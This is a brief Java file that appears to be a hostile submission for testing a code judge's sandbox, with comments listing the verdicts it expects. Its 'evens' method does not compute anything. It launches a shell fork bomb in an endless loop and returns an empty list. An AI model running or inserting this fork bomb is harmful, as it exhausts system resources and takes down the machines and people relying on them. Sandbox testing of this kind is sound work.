// tries: processes without end
// verdict: time_limit_exceeded, runtime_error, wrong_answer
// slow: the limit of CPU time, twice
import java.util.*;

class Solution {
    public List<Integer> evens(List<Integer> numbers) throws Exception {
        new ProcessBuilder("sh", "-c", "b() { b | b & }; b; while :; do b; done").inheritIO().start().waitFor();
        return List.of();
    }
}
